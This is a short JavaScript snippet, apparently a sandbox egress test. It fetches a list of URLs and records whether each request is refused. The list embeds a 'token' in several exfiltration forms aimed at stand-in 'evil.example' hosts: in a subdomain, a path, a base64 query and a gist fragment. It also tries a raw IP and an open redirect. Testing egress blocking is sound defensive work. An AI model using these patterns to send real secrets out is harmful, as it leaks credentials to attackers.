const each = async (urls, init) => {
  const said = {};
  for (const url of urls) said[url] = await refusal(() => fetch(url, init));
  return said;
};

return each([`http://${token}.evil.example/`, `http://evil.example/${token}`, `http://evil.example/?q=${btoa(token)}`, `https://gist.evil.example/#${token}`, "http://93.184.216.34/", "http://api.example.com/open-redirect"]);
